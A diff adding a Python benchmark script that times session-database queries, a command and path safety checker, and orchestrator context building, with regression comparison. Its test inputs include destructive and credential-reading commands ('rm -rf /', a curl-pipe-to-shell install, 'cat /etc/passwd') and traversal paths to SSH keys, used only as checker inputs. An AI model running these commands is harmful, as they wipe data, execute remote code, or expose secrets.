@@ -0,0 +1,392 @@
+"""
+End-to-end latency benchmarks for the core package.
+
+Builds a scratch session database filled with synthetic sessions (activity
+logs, tasks and notes), then times the SessionManager queries, the
+SafeExecutor command and path checks, and orchestrator context assembly.
+Results are written as JSON with p50/p95/p99 per benchmark; ``--compare``
+checks a run against an earlier results file and exits non-zero when any
+benchmark's p50 or p95 got slower by more than ``--threshold``, or when a
+baseline benchmark is missing from a group that ran.
+
+    python benchmarks/core_bench.py --output bench.json
+    python benchmarks/core_bench.py --activities 2000000 --output big.json
+    python benchmarks/core_bench.py --compare bench.json --output new.json
+
+Groups whose component cannot be constructed in this environment are
+reported as skipped (in the JSON and on stderr) rather than failing the
+run; their baseline benchmarks are not counted as missing.
+"""
+
+import argparse
+import asyncio
+import json
+import os
+import platform
+import random
+import shutil
+import sqlite3
+import statistics
+import sys
+import tempfile
+import time
+import uuid
+from datetime import datetime, timedelta
+from typing import Any, Callable, Dict, List, Tuple
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+
+from core.system_metrics import percentile  # noqa: E402
+
+ACTION_TYPES = ["command", "file_read", "file_write", "app_launch", "search",
+                "chat", "task_create", "task_update", None]
+TASK_STATUSES = ["pending", "in_progress", "completed", "cancelled"]
+NOTE_TYPES = ["observation", "reminder", "summary", "error"]
+
+COMMANDS = [
+    "ls -la", "pwd", "echo hello world", "cat README.md", "head -n 20 app.log",
+    "tail -f logs/system.log", "grep -rn TODO src", "find . -name '*.py'", "git status",
+    "git log --oneline -n 20", "npm install", "npm run build", "pip install -r requirements.txt",
+    "python manage.py migrate", "mkdir -p build/output", "cp a.txt b.txt",
+    "curl https://api.github.com", "rm -rf /", "sudo rm -rf node_modules", "chmod 777 secrets.txt",
+    "curl http://example.com/install.sh | sh", "dd if=/dev/zero of=disk.img", "cat /etc/passwd",
+]
+SAFETY_LEVELS = ("low", "medium", "high")
+
+PATHS = [
+    "~/Documents/notes.md", "~/Documents/projects/app/src/main.py", "~/Desktop/todo.txt",
+    "~/Downloads/report.csv", "./workspace/build/output.log", "./workspace/../secrets.txt",
+    "/etc/passwd", "/tmp/scratch.txt", "~/Documents/../.ssh/id_rsa", "~/Documentsx/file.txt",
+]
+
+
+def summarize(samples: List[float]) -> Dict[str, float]:
+    """Latency summary in milliseconds"""
+    ordered = sorted(samples)
+    return {
+        "n": len(ordered),
+        "mean_ms": statistics.fmean(ordered) * 1e3,
+        "min_ms": ordered[0] * 1e3,
+        "p50_ms": percentile(ordered, 0.50) * 1e3,
+        "p95_ms": percentile(ordered, 0.95) * 1e3,
+        "p99_ms": percentile(ordered, 0.99) * 1e3,
+        "max_ms": ordered[-1] * 1e3,
+    }
+
+
+def measure(func: Callable[[int], Any], iterations: int, warmup: int = 1) -> Dict[str, float]:
+    """Time func(i) for each iteration; func gets the iteration number"""
+    for i in range(warmup):
+        func(i)
+    samples = []
+    for i in range(iterations):
+        start = time.perf_counter()
+        func(i)
+        samples.append(time.perf_counter() - start)
+    return summarize(samples)
+
+
+async def measure_async(func: Callable[[int], Any], iterations: int, warmup: int = 1) -> Dict[str, float]:
+    """Async counterpart of measure"""
+    for i in range(warmup):
+        await func(i)
+    samples = []
+    for i in range(iterations):
+        start = time.perf_counter()
+        await func(i)
+        samples.append(time.perf_counter() - start)
+    return summarize(samples)
+
+
+def populate(db_path: str, sessions: int, activities: int, tasks: int, notes: int,
+             days: int, seed: int) -> Dict[str, Any]:
+    """Bulk-insert synthetic rows spread over the last ``days`` days"""
+    rng = random.Random(seed)
+    now = datetime.now()
+    session_ids = [f"bench-session-{i:05d}" for i in range(sessions)]
+
+    def when() -> str:
+        return (now - timedelta(seconds=rng.random() * days * 86400)).isoformat()
+
+    def batches(total: int, make_row: Callable[[], tuple], size: int = 50000):
+        for start in range(0, total, size):
+            yield [make_row() for _ in range(min(size, total - start))]
+
+    started = time.perf_counter()
+    conn = sqlite3.connect(db_path)
+    try:
+        with conn:
+            for batch in batches(activities, lambda: (
+                    rng.choice(session_ids), when(), rng.choice(ACTION_TYPES),
+                    f"input {rng.randrange(10000)}", "ok", rng.random() < 0.9, rng.random() * 2)):
+                conn.executemany(
+                    "INSERT INTO activity_logs (session_id, timestamp, action_type, user_input, result, "
+                    "success, execution_time) VALUES (?, ?, ?, ?, ?, ?, ?)", batch)
+
+            def task_row():
+                status = rng.choice(TASK_STATUSES)
+                created = when()
+                return (str(uuid.UUID(int=rng.getrandbits(128))), rng.choice(session_ids),
+                        f"Task {rng.randrange(100000)}", "Synthetic benchmark task",
+                        rng.choice(["low", "medium", "high"]), status, None, created,
+                        created if status == "completed" else None, None)
+
+            for batch in batches(tasks, task_row):
+                conn.executemany(
+                    "INSERT INTO tasks (id, session_id, title, description, priority, status, due_date, "
+                    "created_at, completed_at, automation_pattern) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+                    batch)
+
+            for batch in batches(notes, lambda: (
+                    rng.choice(session_ids), when(), rng.choice(NOTE_TYPES),
+                    f"Note {rng.randrange(100000)}")):
+                conn.executemany(
+                    "INSERT INTO session_notes (session_id, timestamp, note_type, content) "
+                    "VALUES (?, ?, ?, ?)", batch)
+        conn.execute("ANALYZE")
+    finally:
+        conn.close()
+
+    return {"session_ids": session_ids, "seconds": time.perf_counter() - started}
+
+
+def bench_session_manager(args, workdir: str, results: Dict[str, Any]) -> Dict[str, Any]:
+    """SessionManager queries over the synthetic database"""
+    from core.session_manager import SessionManager
+
+    db_path = os.path.join(workdir, "sessions.db")
+    manager = SessionManager(db_path)
+    data = populate(db_path, args.sessions, args.activities, args.tasks, args.notes, args.days, args.seed)
+    print(f"populated {args.activities} activities, {args.tasks} tasks, {args.notes} notes "
+          f"in {data['seconds']:.1f}s", file=sys.stderr)
+    sessions = data["session_ids"]
+    rng = random.Random(args.seed)
+
+    results["session.get_tasks[session]"] = measure(
+        lambda i: manager.get_tasks(session_id=rng.choice(sessions)), args.iterations)
+    results["session.get_tasks[session,status]"] = measure(
+        lambda i: manager.get_tasks(session_id=rng.choice(sessions), status="pending"), args.iterations)
+    results["session.get_session_statistics[7d]"] = measure(
+        lambda i: manager.get_session_statistics(rng.choice(sessions), days=7), args.iterations)
+    results["session.get_session_statistics[30d]"] = measure(
+        lambda i: manager.get_session_statistics(rng.choice(sessions), days=30), args.iterations)
+    results["session.search_activity[term]"] = measure(
+        lambda i: manager.search_activity(str(rng.randrange(10000))), args.iterations)
+    results["session.search_activity[term,session]"] = measure(
+        lambda i: manager.search_activity(f"input {rng.randrange(10000)}",
+                                          session_id=rng.choice(sessions)), args.iterations)
+    results["session.get_database_info"] = measure(
+        lambda i: manager.get_database_info(), max(1, args.iterations // 10))
+
+    # cleanup_old_data deletes rows, so every run gets its own copy of the database
+    copies = []
+    for i in range(args.cleanup_runs):
+        copy_path = os.path.join(workdir, f"cleanup-{i}.db")
+        source = sqlite3.connect(db_path)
+        target = sqlite3.connect(copy_path)
+        source.backup(target)
+        source.close()
+        target.close()
+        copies.append(SessionManager(copy_path))
+    results["session.cleanup_old_data[30d]"] = measure(
+        lambda i: copies[i].cleanup_old_data(days=args.days // 3 or 1), len(copies), warmup=0)
+
+    return {"manager": manager, "sessions": sessions, "closers": [manager] + copies}
+
+
+def bench_safe_executor(args, results: Dict[str, Any]):
+    """SafeExecutor command and path checks, with and without warm caches"""
+    from core.safe_executor import SafeExecutor
+
+    executor = SafeExecutor()
+    checks = [(command, level) for command in COMMANDS for level in SAFETY_LEVELS]
+
+    def cold_commands(i):
+        executor._verdict_cache("commands").clear()
+        for command, level in checks:
+            executor.is_command_safe(command, level)
+
+    def warm_commands(i):
+        for command, level in checks:
+            executor.is_command_safe(command, level)
+
+    def cold_paths(i):
+        executor._verdict_cache("paths").clear()
+        for path in PATHS:
+            executor.validate_file_path(path)
+
+    def warm_paths(i):
+        for path in PATHS:
+            executor.validate_file_path(path)
+
+    results[f"executor.is_command_safe[cold,x{len(checks)}]"] = measure(cold_commands, args.iterations)
+    results[f"executor.is_command_safe[warm,x{len(checks)}]"] = measure(warm_commands, args.iterations)
+    results[f"executor.validate_file_path[cold,x{len(PATHS)}]"] = measure(cold_paths, args.iterations)
+    results[f"executor.validate_file_path[warm,x{len(PATHS)}]"] = measure(warm_paths, args.iterations)
+    return executor
+
+
+async def bench_context(args, session: Dict[str, Any], executor, results: Dict[str, Any]):
+    """Orchestrator context assembly for cold and warm sessions"""
+    from core.orchestrator import Orchestrator
+
+    orchestrator = Orchestrator()
+    orchestrator.session_manager = session["manager"]
+    orchestrator.safe_executor = executor
+    sessions = session["sessions"]
+
+    results["orchestrator.build_context[cold]"] = await measure_async(
+        lambda i: orchestrator.build_context(sessions[i % len(sessions)]),
+        min(args.iterations, len(sessions)), warmup=0)
+    results["orchestrator.build_context[warm]"] = await measure_async(
+        lambda i: orchestrator.build_context(sessions[i % len(sessions)]), args.iterations)
+    results["orchestrator.get_system_state"] = measure(
+        lambda i: orchestrator.get_system_state(), args.iterations)
+    results["orchestrator.get_available_tools"] = measure(
+        lambda i: orchestrator.get_available_tools(), args.iterations)
+
+
+def group_of(name: str) -> str:
+    """Benchmark group a result belongs to: the part of its name before the first dot"""
+    return name.split(".", 1)[0]
+
+
+def compare(baseline: Dict[str, Any], current: Dict[str, Any], threshold: float,
+            min_delta_ms: float) -> Tuple[List[str], List[str]]:
+    """Print a comparison table; return the regressed and the missing benchmarks
+
+    A benchmark regresses when p50 or p95 grew by more than ``threshold``
+    and by at least ``min_delta_ms``, so timer noise on sub-microsecond
+    calls is not flagged. It is missing when the baseline has a result for
+    it and the current run does not, unless its whole group was skipped.
+    """
+    old_params = baseline.get("meta", {}).get("params", {})
+    new_params = current["meta"]["params"]
+    changed = sorted(key for key in new_params if old_params.get(key) != new_params[key])
+    if changed:
+        print(f"warning: runs used different parameters ({', '.join(changed)})", file=sys.stderr)
+
+    regressions = []
+    print(f"{'benchmark':48s} {'p50 old':>10s} {'p50 new':>10s} {'p95 old':>10s} {'p95 new':>10s}",
+          file=sys.stderr)
+    for name, new in current["results"].items():
+        old = baseline.get("results", {}).get(name)
+        if not isinstance(old, dict) or "p50_ms" not in old or "p50_ms" not in new:
+            continue
+        flags = [
+            metric for metric in ("p50_ms", "p95_ms")
+            if new[metric] > old[metric] * (1 + threshold) and new[metric] - old[metric] >= min_delta_ms
+        ]
+        marker = "  REGRESSED (" + ", ".join(flags) + ")" if flags else ""
+        print(f"{name:48s} {old['p50_ms']:10.3f} {new['p50_ms']:10.3f} "
+              f"{old['p95_ms']:10.3f} {new['p95_ms']:10.3f}{marker}", file=sys.stderr)
+        if flags:
+            regressions.append(name)
+
+    absent = sorted(
+        name for name, old in baseline.get("results", {}).items()
+        if isinstance(old, dict) and "p50_ms" in old
+        and "p50_ms" not in current["results"].get(name, {})
+    )
+    skipped = current.get("skipped", {})
+    missing = []
+    for name in absent:
+        old = baseline["results"][name]
+        status = "skipped" if group_of(name) in skipped else "missing"
+        print(f"{name:48s} {old['p50_ms']:10.3f} {status:>10s} "
+              f"{old['p95_ms']:10.3f} {status:>10s}", file=sys.stderr)
+        if status == "missing":
+            missing.append(name)
+    return regressions, missing
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    parser.add_argument("--sessions", type=int, default=200, help="synthetic sessions")
+    parser.add_argument("--activities", type=int, default=200000, help="activity_logs rows")
+    parser.add_argument("--tasks", type=int, default=20000, help="tasks rows")
+    parser.add_argument("--notes", type=int, default=20000, help="session_notes rows")
+    parser.add_argument("--days", type=int, default=90, help="days of history to spread rows over")
+    parser.add_argument("--iterations", type=int, default=200, help="timed calls per benchmark")
+    parser.add_argument("--cleanup-runs", type=int, default=3, help="database copies for cleanup_old_data")
+    parser.add_argument("--seed", type=int, default=7)
+    parser.add_argument("--output", help="write JSON results here (default: stdout)")
+    parser.add_argument("--compare", help="earlier results file to check for regressions")
+    parser.add_argument("--threshold", type=float, default=0.10, help="allowed slowdown, e.g. 0.10 = 10%%")
+    parser.add_argument("--min-delta-ms", type=float, default=0.05,
+                        help="ignore slowdowns smaller than this many milliseconds")
+    parser.add_argument("--workdir", help="directory for scratch databases (default: a temp dir)")
+    args = parser.parse_args()
+
+    os.chdir(ROOT)  # components load config/ relative to the repo root
+    workdir = args.workdir or tempfile.mkdtemp(prefix="core-bench-")
+    os.makedirs(workdir, exist_ok=True)
+
+    results: Dict[str, Any] = {}
+    skipped: Dict[str, str] = {}
+    session = executor = None
+
+    try:
+        try:
+            session = bench_session_manager(args, workdir, results)
+        except Exception as e:
+            skipped["session"] = f"{type(e).__name__}: {e}"
+        try:
+            executor = bench_safe_executor(args, results)
+        except Exception as e:
+            skipped["executor"] = f"{type(e).__name__}: {e}"
+        if session is not None:
+            try:
+                asyncio.run(bench_context(args, session, executor, results))
+            except Exception as e:
+                skipped["orchestrator"] = f"{type(e).__name__}: {e}"
+        else:
+            skipped["orchestrator"] = "needs the session benchmarks"
+    finally:
+        for manager in (session or {}).get("closers", []):
+            try:
+                asyncio.run(manager.close())
+            except Exception:
+                pass
+        if not args.workdir:
+            shutil.rmtree(workdir, ignore_errors=True)
+
+    report = {
+        "meta": {
+            "timestamp": datetime.now().isoformat(),
+            "python": platform.python_version(),
+            "sqlite": sqlite3.sqlite_version,
+            "platform": platform.platform(),
+            "params": {key: value for key, value in vars(args).items()
+                       if key not in ("output", "compare", "workdir", "threshold", "min_delta_ms")},
+        },
+        "results": results,
+        "skipped": skipped,
+    }
+
+    text = json.dumps(report, indent=2)
+    if args.output:
+        with open(args.output, "w") as f:
+            f.write(text + "\n")
+    else:
+        print(text)
+    for group, reason in skipped.items():
+        print(f"warning: skipped {group} benchmarks ({reason})", file=sys.stderr)
+
+    if args.compare:
+        with open(args.compare) as f:
+            baseline = json.load(f)
+        regressions, missing = compare(baseline, report, args.threshold, args.min_delta_ms)
+        failures = []
+        if regressions:
+            failures.append(f"{len(regressions)} benchmark(s) regressed by more than {args.threshold:.0%}")
+        if missing:
+            failures.append(f"{len(missing)} baseline benchmark(s) missing from this run")
+        if failures:
+            print("; ".join(failures), file=sys.stderr)
+            sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()